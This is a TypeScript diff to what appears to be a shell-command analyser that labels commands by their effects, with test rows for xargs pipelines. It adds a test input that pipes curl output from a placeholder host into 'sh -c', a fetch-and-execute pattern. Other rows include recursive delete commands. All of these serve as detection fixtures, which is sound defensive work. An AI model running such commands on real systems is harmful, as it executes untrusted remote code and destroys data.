@@ -22,6 +22,7 @@ export const inputs = (): readonly Program[] => [
 			"echo d | xargs -I{} sh -c 'rm -r {}'": ['delete d recursive'],
 			'echo d | xargs -I% mv % %.bak': ['delete d', 'write d.bak'],
 			"find . -name '*.o' | xargs -I{} sh -c 'rm {}'": ['read .', 'delete **/*.o'],
+			"curl -s e.example | xargs -I{} sh -c '{}'": ['network e.example', 'opaque'],
 		},
 	}),
 	rows('parallel sem', {
@@ -55,7 +56,7 @@ function xargs(it: Invocation): readonly Finding[] {
 	const command = it.operands.length === 0 ? [constant('echo')] : it.operands;
 	const mark = markOf(it);
 	if (mark === undefined) return [{ find: 'command', words: [...command, ...fedWords(it)] }];
-	return (linesOf(it) ?? [unknown('what it is fed')]).map((line) => ({
+	return (linesOf(it) ?? [fedUnknown(it)]).map((line) => ({
 		find: 'command',
 		words: mark === '' ? command : command.map((word) => replaced(word, mark, line)),
 	}));
@@ -92,9 +93,14 @@ function linesOf({ stdin, has }: Invocation): readonly Word[] | undefined {
 /** A word with another one in place of the mark: known only where both are. */
 export function filledIn(word: Word, mark: string, value: Word): Word {
 	if (!word.text.includes(mark)) return word;
-	if (!value.known) return word.text === mark ? value : unknown(word.text);
+	if (!value.known) return word.text === mark ? value : { ...unknown(word.text), fetched: value.fetched };
 	const text = word.text.replaceAll(mark, () => value.text);
 	return { ...word, text, prefix: word.known ? text : word.prefix, pattern: word.pattern || value.pattern };
+}
+
+/** A word of which only is known whether another machine wrote it. */
+function fedUnknown({ stdin }: Invocation): Word {
+	return { ...unknown('what it is fed'), fetched: stdin?.fetched === true };
 }
 
 function fedWords(it: Invocation): readonly Word[] {
@@ -102,7 +108,7 @@ function fedWords(it: Invocation): readonly Word[] {
 	if (has('-a', '--arg-file')) return [unknown('the words of a file')];
 	if (stdin?.names !== undefined) return stdin.names;
 	const text = stdin?.text;
-	if (text === undefined || text.length > 10_000) return [unknown('what it is fed')];
+	if (text === undefined || text.length > 10_000) return [fedUnknown(it)];
 	const separator = separatorOf(it);
 	if (separator !== undefined) {
 		if (separator.length !== 1) return [unknown('what it is fed')];
@@ -151,9 +157,10 @@ function listsOf(words: readonly Word[]): readonly (readonly Word[])[] {
 	return lists;
 }
 
-function fedLines({ stdin, has }: Invocation): readonly Word[] {
+function fedLines(it: Invocation): readonly Word[] {
+	const { stdin, has } = it;
 	if (has('-a', '--arg-file') || stdin?.text === undefined || stdin.text.length > 10_000)
-		return stdin?.names ?? [unknown('what it is fed')];
+		return stdin?.names ?? [fedUnknown(it)];
 	return stdin.text
 		.split('\n')
 		.filter((line) => line !== '')
